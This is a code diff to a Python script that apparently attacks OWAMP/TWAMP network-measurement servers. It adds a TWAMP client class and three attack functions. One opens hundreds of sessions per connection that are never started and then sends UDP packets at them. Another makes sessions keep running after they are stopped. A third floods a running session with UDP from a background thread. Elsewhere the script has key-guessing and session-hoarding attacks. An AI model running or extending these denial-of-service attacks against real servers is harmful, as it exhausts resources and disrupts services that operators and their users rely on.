@@ -45,7 +45,7 @@ class Stranger:
 
     def again(self):
         """Another connection of the same stranger."""
-        self.others.append(Stranger(*self.tcp.getpeername()[:2], self.tcp.getsockname()[0]))
+        self.others.append(type(self)(*self.tcp.getpeername()[:2], self.tcp.getsockname()[0]))
         return self.others[-1]
 
     def read(self, octets):
@@ -97,6 +97,15 @@ class Stranger:
         self.tcp.sendall(struct.pack('>B31x', 2))
         if self.read(32)[0] != 0:
             raise Refused('sessions were not started')
+
+
+class TwampStranger(Stranger):
+    """The same of TWAMP (RFC 5357, 3)."""
+
+    def request(self, port, timeout, padding):
+        """Request-TW-Session, from that UDP port of ours; the server sends likewise."""
+        ipvn = 6 if self.tcp.family == socket.AF_INET6 else 4
+        return struct.pack('>BBHQHH48xIQQI24x', 5, ipvn, 0, 0, port, 0, padding, 0, int(timeout * 2**32), 0)
 
 
 # Each attack returns what its sessions were answered.
@@ -192,6 +201,48 @@ def burst(stranger, sessions, padding):
     return answers
 
 
+def twamp_agreed(stranger, connections, packets):
+    """TWAMP's sessions, 256 on each of many connections, that are never started, and packets for them."""
+    answers = []
+    udp = socket.socket(stranger.tcp.family, socket.SOCK_DGRAM)
+    udp.bind((stranger.tcp.getsockname()[0], 0))
+    for i in range(int(connections)):
+        one = stranger if i == 0 else stranger.again()
+        for port in range(1024 + 256 * i, 1024 + 256 * (i + 1)):
+            answers += one.ask_often(1, port, 600, 1900)
+    for _ in range(int(packets)):
+        udp.sendto(bytes(1914), (stranger.tcp.getpeername()[0], answers[0][2]))
+    return answers
+
+
+def twamp_stopped(stranger, rounds, sessions):
+    """TWAMP's sessions that go on for ten minutes after their stop, again and again."""
+    answers = []
+    for i in range(int(rounds)):
+        some = [stranger.ask(1024 + int(sessions) * i + j, 600, 0) for j in range(int(sessions))]
+        answers += some
+        if any(answer[0] == 0 for answer in some):
+            stranger.begin()
+            stranger.tcp.sendall(struct.pack('>BxxxI24x', 3, sum(answer[0] == 0 for answer in some)))
+    return answers
+
+
+def twamp_flood(stranger, sessions, octets):
+    """TWAMP's sessions that run, and are asked as fast as can be."""
+    answers = [stranger.ask(stranger.own_port(), 600, 1000) for _ in range(int(sessions))]
+    stranger.begin()
+
+    def ask():
+        far = (stranger.tcp.getpeername()[0], answers[0][2])
+        question = struct.pack('>IQH', 0, 0, 1).ljust(int(octets), b'\0')
+        for udp in itertools.cycle(stranger.ports):
+            with contextlib.suppress(OSError):
+                udp.sendto(question, far)
+
+    threading.Thread(target=ask, daemon=True).start()
+    return answers
+
+
 def wrong_keys(stranger, at_once):
     """So many connections at once, each of which tries a wrong key, known or not, and then another; counts the answers."""
     answers = ANSWERS
@@ -237,7 +288,7 @@ def hoard(stranger, connections, sessions):
 
 
 def attack_from(source):
-    stranger = Stranger(host, port, source)
+    stranger = (TwampStranger if attack.startswith('twamp') else Stranger)(host, port, source)
     return stranger, globals()[attack](stranger, *arguments)
 
 
